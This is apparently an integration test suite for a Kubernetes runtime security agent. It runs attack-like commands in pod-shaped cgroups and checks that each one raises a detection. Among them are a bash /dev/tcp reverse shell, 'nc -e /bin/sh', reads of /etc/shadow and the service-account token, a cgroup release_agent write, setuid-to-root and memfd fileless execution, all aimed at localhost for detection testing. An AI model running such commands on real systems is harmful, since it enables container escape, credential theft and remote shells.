// Every detection, triggered for real by a process in a kubelet-shaped cgroup, reported by the
// real agent on this kernel and received by the real control plane, attributed to the right pod
// and container. Plus a benign run that must produce nothing.
import { strict as assert } from "node:assert";
import { chmodSync, copyFileSync, mkdirSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { join } from "node:path";
import type { Signal } from "../../src/gen/meshward/agent/v1/signals_pb.js";
import { Severity } from "../../src/gen/meshward/agent/v1/signals_pb.js";
import { AgentFixture, compileBehaviours, skipUnlessRoot } from "./fixture.js";
import { runInPod } from "./kube-cgroup.js";

describe("agent detections (real kernel, kubelet-shaped cgroups)", function () {
  this.timeout(60_000);
  const fx = new AgentFixture();
  let behaviours = "";
  let work = "";

  before(async function () {
    skipUnlessRoot(this);
    work = join(fx.dir, "work");
    mkdirSync(work, { mode: 0o755 });
    chmodSync(fx.dir, 0o755); // the setuid test executes from here as nobody
    behaviours = compileBehaviours(work);
    await fx.start();
  });

  after(async () => {
    await fx.stop();
  });

  async function expectDetection(id: string, argv: string[], check?: (s: Signal) => void): Promise<Signal> {
    const pod = fx.newPod(id.slice(0, 20));
    await runInPod(pod, argv);
    const s = await fx.waitForSignal((x) => x.detection?.id === id && x.pod?.uid === pod.uid);
    assert.equal(s.node, fx.node);
    assert.equal(s.pod?.namespace, pod.namespace);
    assert.equal(s.pod?.name, pod.name);
    assert.equal(s.pod?.serviceAccount, `${pod.containerName}-sa`);
    assert.equal(s.container?.id, pod.containerId);
    assert.equal(s.container?.name, pod.containerName);
    assert.match(s.process?.execId ?? "", new RegExp(`^${fx.node}:\\d+:\\d+$`));
    assert.ok(s.detection?.mitreTechnique.startsWith("T"), "a MITRE technique");
    assert.notEqual(s.severity, Severity.UNSPECIFIED);
    check?.(s);
    return s;
  }

  it("terminal-shell-in-container: a shell with a pty (script)", async () => {
    await expectDetection("terminal-shell-in-container", ["script", "-qc", "sh -c true", "/dev/null"], (s) => assert.notEqual(s.process?.tty, ""));
  });

  it("namespace-setns: nsenter into a network namespace", async () => {
    await expectDetection("namespace-setns", ["nsenter", "--net=/proc/self/ns/net", "true"], (s) => assert.equal(s.evidence.namespaces, "net"));
  });

  it("namespace-unshare: unshare -n", async () => {
    await expectDetection("namespace-unshare", ["unshare", "-n", "true"], (s) => assert.equal(s.evidence.namespaces, "net"));
  });

  it("namespace-clone: clone(CLONE_NEWNS|CLONE_NEWUTS)", async () => {
    await expectDetection("namespace-clone", [behaviours, "clone-newns"], (s) => assert.equal(s.evidence.namespaces, "mnt,uts"));
  });

  it("setuid-to-root: setuid(0) from uid 65534", async () => {
    await expectDetection("setuid-to-root", [behaviours, "setuid-to-root"], (s) => assert.equal(s.process?.uid, 65534));
  });

  it("capset-raise: capset adding CAP_SYS_ADMIN back", async () => {
    await expectDetection("capset-raise", [behaviours, "capset-raise"]);
  });

  it("setuid-binary-exec: nobody executes a setuid-root binary", async () => {
    const suid = join(work, "suid-true");
    copyFileSync("/bin/true", suid);
    chmodSync(suid, 0o4755);
    await expectDetection("setuid-binary-exec", [behaviours, "exec-as-nobody", suid], (s) => assert.equal(s.process?.binary, suid));
  });

  it("mount-in-container and cgroup-mount-in-container: mount cgroup2 in a private mount namespace", async () => {
    const target = join(work, `cg-${Date.now()}`);
    mkdirSync(target);
    const pod = fx.newPod("mounter");
    await runInPod(pod, ["unshare", "-m", "sh", "-c", `mount -t cgroup2 none ${target}; umount ${target}`]);
    const cg = await fx.waitForSignal((x) => x.detection?.id === "cgroup-mount-in-container" && x.pod?.uid === pod.uid);
    assert.equal(cg.evidence.fstype, "cgroup2");
    assert.equal(cg.evidence.target, target);
    await fx.waitForSignal((x) => x.detection?.id === "mount-in-container" && x.pod?.uid === pod.uid);
  });

  it("cgroup-release-agent-write: writing release_agent", async () => {
    await expectDetection("cgroup-release-agent-write", ["sh", "-c", `echo /payload > ${work}/release_agent`], (s) => assert.equal(s.evidence.path, `${work}/release_agent`));
  });

  it("ptrace-attach: PTRACE_ATTACH to a child", async () => {
    await expectDetection("ptrace-attach", [behaviours, "ptrace-child"], (s) => assert.equal(s.evidence.request, "16"));
  });

  it("kernel-module-load: finit_module", async function () {
    const failed = fx.agent?.tracerHello?.failed ?? [];
    if (failed.includes("mw_sys_enter_finit_module")) {
      console.log("      skipped: this kernel has no finit_module tracepoint (built without module support)");
      this.skip();
    }
    await expectDetection("kernel-module-load", [behaviours, "module-load"]);
  });

  it("bpf-prog-load-in-container: bpf(BPF_PROG_LOAD)", async () => {
    await expectDetection("bpf-prog-load-in-container", [behaviours, "bpf-prog-load"], (s) => assert.equal(s.evidence.prog_type, "1"));
  });

  it("fileless-exec-memfd: execveat of a memfd", async () => {
    await expectDetection("fileless-exec-memfd", [behaviours, "memfd-exec"]);
  });

  it("deleted-binary-exec: execveat of an unlinked file", async () => {
    await expectDetection("deleted-binary-exec", [behaviours, "deleted-exec", work]);
  });

  it("reverse-shell: a TCP socket dup'ed onto stdin/stdout/stderr (bash /dev/tcp)", async () => {
    const server: Server = createServer((c) => c.on("error", () => undefined).resume());
    const port = await new Promise<number>((r) => server.listen(0, "127.0.0.1", () => r((server.address() as { port: number }).port)));
    try {
      await expectDetection("reverse-shell", ["bash", "-c", `exec 3<>/dev/tcp/127.0.0.1/${port}; exec 0<&3 1>&3 2>&3; echo hi`], (s) => {
        assert.equal(s.evidence.remote, `127.0.0.1:${port}`);
      });
    } finally {
      server.close();
    }
  });

  it("netcat-remote-exec: nc -e /bin/sh", async () => {
    const nc = join(work, "nc");
    copyFileSync("/bin/true", nc);
    chmodSync(nc, 0o755);
    await expectDetection("netcat-remote-exec", [nc, "-e", "/bin/sh", "127.0.0.1", "9"], (s) => assert.deepEqual(s.process?.args, ["nc", "-e", "/bin/sh", "127.0.0.1", "9"].map((a, i) => (i === 0 ? nc : a))));
  });

  it("crypto-miner-stratum: stratum+tcp:// in the arguments", async () => {
    await expectDetection("crypto-miner-stratum", ["/bin/echo", "-o", "stratum+tcp://pool.example:3333"]);
  });

  it("sensitive-file-read: cat /etc/shadow", async () => {
    await expectDetection("sensitive-file-read", ["cat", "/etc/shadow"], (s) => assert.equal(s.evidence.path, "/etc/shadow"));
  });

  it("service-account-token-read: cat of the service-account token", async () => {
    await expectDetection("service-account-token-read", ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]);
  });

  it("benign workload: no detections", async () => {
    const pod = fx.newPod("benign");
    await runInPod(pod, ["sh", "-c", `ls / >/dev/null; cat /etc/hostname >/dev/null; echo hello | tr a-z A-Z >/dev/null; id >/dev/null; true`]);
    // A sentinel afterwards: once its signal is in, everything the benign run did has been seen.
    await runInPod(pod, ["cat", "/etc/shadow"]);
    await fx.waitForSignal((x) => x.detection?.id === "sensitive-file-read" && x.pod?.uid === pod.uid);
    const ids = fx.signalsFor(pod).map((s) => s.detection?.id);
    assert.deepEqual(ids, ["sensitive-file-read"]);
    assert.ok((fx.agent?.counters.events ?? 0n) > 0n);
  });

  it("reports no ring-buffer drops during the suite", () => {
    assert.equal(fx.agent?.counters.ringbufDrops, 0n);
  });
});
